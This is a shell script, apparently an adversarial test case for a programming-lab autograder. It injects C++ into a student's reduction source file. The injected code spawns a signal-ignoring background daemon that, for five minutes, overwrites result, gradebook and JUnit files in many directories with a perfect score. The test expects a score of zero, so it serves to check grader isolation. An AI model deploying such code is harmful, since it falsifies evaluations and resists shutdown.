#!/bin/sh
# A daemon that ignores all signals overwrites every result file that it can find, for five minutes.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <csignal>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <string>
#include <sys/prctl.h>
#include <unistd.h>
static void mark(const std::string& name) {
    const char* home = std::getenv("HOME");
    for (const std::string folder : {"/tmp", "/var/tmp", "/dev/shm", "..", "../..", home == nullptr ? "/root" : home})
        std::ofstream(folder + "/opencl-labs-hostile-" + name) << name << "\n";
}
static void overwrite(const std::string& folder, int depth) {
    std::error_code error;
    for (const auto& entry : std::filesystem::directory_iterator(folder, std::filesystem::directory_options::skip_permission_denied, error)) {
        const std::string name = entry.path().filename().string();
        if (entry.is_directory(error) && !entry.is_symlink(error) && depth > 0)
            overwrite(entry.path().string(), depth - 1);
        else if (name == "result.json" || name == "classroom.json" || name == "gradescope.json" || name == "gradebook.csv" || name == "junit.xml")
            std::ofstream(entry.path()) << "{\"schema\": \"opencl-labs/result/v1\", \"lab\": \"lab1\", \"score\": 16, \"max_score\": 16}\n";
    }
}
static void attack() {
    if (::fork() != 0)
        return;
    ::setsid();
    if (::fork() != 0)
        ::_exit(0);
    ::prctl(PR_SET_NAME, "hostile-daemon");
    for (int signal = 1; signal < 65; ++signal)
        std::signal(signal, SIG_IGN);
    const char* home = ::getenv("HOME");
    for (const std::time_t end = std::time(nullptr) + 300; std::time(nullptr) < end; ::sleep(1)) {
        mark("daemon-that-rewrites-results");
        for (const std::string folder : {"/tmp", "/OUT", "/out", "/results", "/autograder", home == nullptr ? "/root" : home})
            overwrite(folder, 2);
    }
    ::_exit(0);
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
